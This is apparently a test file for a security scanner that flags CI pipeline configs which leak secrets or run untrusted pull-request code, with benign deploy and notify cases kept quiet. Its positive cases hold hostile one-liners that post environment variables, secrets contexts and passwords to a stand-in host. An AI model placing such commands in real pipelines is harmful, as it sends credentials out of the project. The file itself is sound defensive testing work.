// CI pipeline definitions written to expose secrets or to run strangers' code with them: written after the rules,
// with other CI services, spellings and tools than their examples; the pipelines projects really write stay quiet.
import { describe, expect, it } from 'vitest';
import { WORKSPACE, write, aloneOf, severityIn } from './replay.js';

const judged = (file: string, content: string) => aloneOf(write(`${WORKSPACE}/${file}`, content));
const severityOf = (file: string, content: string, rule: string) => severityIn(judged(file, content), rule);

describe('CI pipelines', () => {
  it.each([
    ['Azure Pipelines posting the environment', 'azure-pipelines.yml', 'steps:\n- script: printenv | wget -qO- --post-file=- https://c.example.net/a\n', 'high'],
    ['Buildkite sending the job env with $(env)', '.buildkite/pipeline.yml', 'steps:\n  - command: curl -s -X POST -d "$(env)" https://c.example.net/b\n', 'high'],
    ['a composite action printing a key through xxd', '.github/actions/setup/action.yml', 'runs:\n  using: composite\n  steps:\n    - run: echo "${{ secrets.SIGNING_KEY }}" | xxd -p\n      shell: bash\n', 'high'],
    ['Bitbucket sending a password as form data', 'bitbucket-pipelines.yml', 'pipelines:\n  default:\n    - step:\n        script:\n          - curl -F "p=$DB_PASSWORD" https://c.example.net/f\n', 'medium'],
    ['Drone sending the whole secrets context', '.drone.yml', 'steps:\n- name: x\n  commands:\n  - echo \'${{ toJSON(secrets) }}\' | curl -d @- https://c.example.net/d\n', 'high'],
  ])('%s: %s', (_name, file, content, severity) => {
    expect(severityOf(file, content, 'ci-secrets-exposed')).toBe(severity);
  });

  it('a pull_request_target workflow checking out the pull request by its ref', () => {
    const content = "on:\n  pull_request_target:\n    types: [opened]\njobs:\n  b:\n    steps:\n      - run: git fetch origin refs/pull/${{ github.event.number }}/head && git checkout FETCH_HEAD && make\n";
    expect(severityOf('.github/workflows/build.yaml', content, 'ci-runs-untrusted-pr-code')).toBe('medium');
  });

  it.each([
    ['a deploy with a bearer token header', '.github/workflows/deploy.yml', '      - run: curl -fsS -X POST -H "Authorization: token ${{ secrets.GH_PAT }}" https://api.github.com/repos/o/r/dispatches -d \'{"event_type":"go"}\'\n'],
    ['a Slack notification to a secret webhook URL', '.github/workflows/notify.yml', '      - run: curl -X POST -H "Content-type: application/json" --data \'{"text":"deployed"}\' ${{ secrets.SLACK_WEBHOOK_URL }}\n'],
    ['GitLab publishing a package with its job token header', '.gitlab-ci.yml', 'publish:\n  script:\n    - \'curl --header "JOB-TOKEN: $CI_JOB_TOKEN" --upload-file pkg.tgz "$CI_API_V4_URL/projects/$CI_PROJECT_ID/packages/generic/p/1/pkg.tgz"\'\n'],
    ['a base64 of a build artefact', '.github/workflows/b.yml', '      - run: cat dist/app.js | base64 > app.b64\n'],
    ['env listed in the log without sending it', '.circleci/config.yml', 'jobs:\n  b:\n    steps:\n      - run: env | sort\n'],
    ['a workflow that is not CI config', 'docs/ci-example.yml', "      - run: echo '${{ toJSON(secrets) }}'\n"],
  ])('quiet: %s', (_name, file, content) => {
    expect(judged(file, content).map((f) => f.rule)).toEqual([]);
  });
});
